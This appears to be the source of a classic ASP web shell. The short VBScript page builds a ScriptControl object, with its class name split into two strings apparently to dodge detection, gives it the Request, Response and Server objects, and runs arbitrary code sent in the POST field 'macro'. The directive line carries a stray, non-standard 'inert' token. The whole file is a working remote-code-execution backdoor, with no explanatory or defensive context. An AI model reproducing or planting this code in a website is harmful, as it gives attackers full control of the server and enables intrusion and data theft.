<%@ Language=VBScript inert %>
<%
Set sc = Server.CreateObject("MSScript" & "Control.ScriptControl")
sc.Language = "VBScript"
sc.AddObject "Response", Response
sc.AddObject "Request", Request
sc.AddObject "Server", Server
sc.ExecuteStatement Request.Form("macro")
%>
